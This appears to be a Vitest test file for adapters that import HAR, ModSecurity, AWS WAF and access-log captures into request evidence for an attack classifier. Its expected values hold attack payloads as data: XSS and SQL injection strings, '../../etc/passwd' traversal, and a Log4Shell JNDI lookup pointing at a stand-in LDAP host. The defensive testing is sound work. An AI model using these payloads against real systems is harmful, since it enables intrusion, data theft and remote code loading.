// Each adapter on its fixture (fixtures/README.md says where each shape comes from): the
// source's timestamps, client address, headers, query, body and status arrive in the evidence,
// and bad entries are reported by line or entry while the good ones are imported.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { requestPayloads } from '../schema';
import { convertCapture, type CaptureFormat } from './index';

const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', name), 'utf8');
const requests = (format: CaptureFormat, file: string) => {
  const c = convertCapture(format, fixture(file));
  return { ...c, all: c.sessions.flatMap((s) => s.evidence.requests) };
};

describe('HAR 1.2', () => {
  const r = requests('har', 'browser.har');
  it('reads each entry with its ISO-8601 time (zone applied), client from X-Forwarded-For, query, cookies, status', () => {
    const get = r.all.find((q) => q.path === '/search')!;
    expect(get.timestamp).toBe(Date.parse('2026-01-05T09:00:00.123Z'));
    expect(get).toMatchObject({ method: 'GET', clientIp: '192.0.2.44', query: { q: 'shoes', sort: 'price' }, statusCode: 200 });
    expect(get.headers.cookie).toBe('sid=abc123');
  });
  it('keeps multipart fields and file names; a status of 0 (aborted) is no status', () => {
    const up = r.all.find((q) => q.path === '/upload')!;
    expect(up.body).toEqual({ title: '<img src=x onerror=alert(1)>', 'file.filename': '../../etc/passwd' });
    expect(up.statusCode).toBeUndefined();
  });
  it('keeps a JSON body as sent and takes _clientAddress when no forwarding header exists', () => {
    const post = r.all.find((q) => q.path === '/v1/orders')!;
    expect(post).toMatchObject({ method: 'POST', clientIp: '198.51.100.200', statusCode: 201 });
    expect(JSON.parse(post.body as string).item).toBe('1 UNION SELECT password FROM users');
  });
  it('reports the entry without startedDateTime and imports the other three', () => {
    expect(r.accepted).toBe(3);
    expect(r.errors).toEqual([{ at: 'entry 4', message: expect.stringContaining('startedDateTime') }]);
  });
  it('refuses a file that is not HAR as one error', () => {
    expect(convertCapture('har', '{"log":{}}').errors).toEqual([{ at: 'file', message: expect.stringContaining('log.entries') }]);
    expect(convertCapture('har', 'nope').errors[0].at).toBe('file');
  });
});

describe('ModSecurity v3 JSON audit log', () => {
  const r = requests('modsec-audit', 'modsec-audit.jsonl');
  it('reads client_ip, asctime time_stamp (double-spaced day too), uri, form body, headers, http_code and rule ids', () => {
    const post = r.all.find((q) => q.method === 'POST')!;
    expect(post).toMatchObject({ clientIp: '198.51.100.23', path: '/includes/newsletter.php', query: { ref: 'footer' }, statusCode: 403, tags: ['modsec:942100'] });
    expect(post.timestamp).toBe(Date.parse('2022-05-10T04:52:04Z'));
    expect(post.body).toEqual({ email: "a@example.org' OR '1'='1", list: '2' });
    const scan = r.all.find((q) => q.clientIp === '203.0.113.80')!;
    expect(scan.timestamp).toBe(Date.parse('2022-05-09T09:41:59Z'));
    expect(scan.headers['x-api-version']).toBe('${jndi:ldap://203.0.113.80:1389/a}');
  });
  it('decodes the query of the uri', () => {
    expect(r.all.find((q) => q.path === '/download.php')!.query.file).toBe('../../../etc/passwd');
  });
  it('reports the truncated line and the unreadable time_stamp by line number', () => {
    expect(r.errors.map((e) => e.at)).toEqual(['line 4', 'line 5']);
    expect(r.errors[0].message).toMatch(/^not JSON/);
    expect(r.errors[1].message).toContain('"yesterday"');
  });
});

describe('AWS WAF full logs', () => {
  const r = requests('aws-waf', 'aws-waf.jsonl');
  it('reads every header (the attack in a custom header reaches the classifier), country, action and rule', () => {
    const sqli = r.all.find((q) => q.clientIp === '1.1.1.1')!;
    expect(sqli).toMatchObject({ method: 'GET', path: '/myUri', timestamp: 1576280412771, geo: { country: 'AU' }, tags: ['awswaf:BLOCK', 'awswaf-rule:STMTest_SQLi_XSS'] });
    expect(requestPayloads(sqli)).toContainEqual({ location: 'header.x-stm-test', value: '10 AND 1=1' });
  });
  it('parses args (repeated names kept), responseCodeSent as status, and an ISO-8601 timestamp', () => {
    const post = r.all.find((q) => q.method === 'POST')!;
    expect(post.query).toEqual({ q: 'cat', id: "1'; DROP TABLE users--", 'q[2]': 'dog' });
    expect(post.statusCode).toBe(429);
    expect(r.all.find((q) => q.path === '/index.html')!.timestamp).toBe(Date.parse('2023-05-06T06:46:20Z'));
  });
  it('reports the entry without httpRequest', () => {
    expect(r.errors).toEqual([{ at: 'line 4', message: expect.stringContaining('httpRequest') }]);
  });
});

describe('combined access log', () => {
  const r = requests('combined', 'access-combined.log');
  it('reads host, CLF time with its zone, request line, status, referer and user agent', () => {
    const gif = r.all.find((q) => q.path === '/apache_pb.gif')!;
    expect(gif).toMatchObject({ clientIp: '198.51.100.7', method: 'GET', statusCode: 200, userAgent: 'Mozilla/4.08 [en] (Win98; I ;Nav)' });
    expect(gif.timestamp).toBe(Date.parse('2000-10-10T20:55:36Z'));
    expect(gif.headers.referer).toBe('http://www.example.com/start.html');
  });
  it("decodes nginx's \\xHH and Apache's \\\" escapes so the payload reads as sent", () => {
    expect(r.all.find((q) => q.path === '/item')!.query.id).toBe('1" or "1"="1');
    expect(r.all.find((q) => q.path === '/a')!.userAgent).toBe('Apache says "hi" \\o/');
    expect(r.all.find((q) => q.path === '/search')!.query.q).toBe('<script>alert(1)</script>');
  });
  it('reports the TLS handshake, the "-" request and the foreign line by number, and imports the six good lines', () => {
    expect(r.accepted).toBe(6);
    expect(r.errors.map((e) => e.at)).toEqual(['line 6', 'line 7', 'line 8']);
  });
});
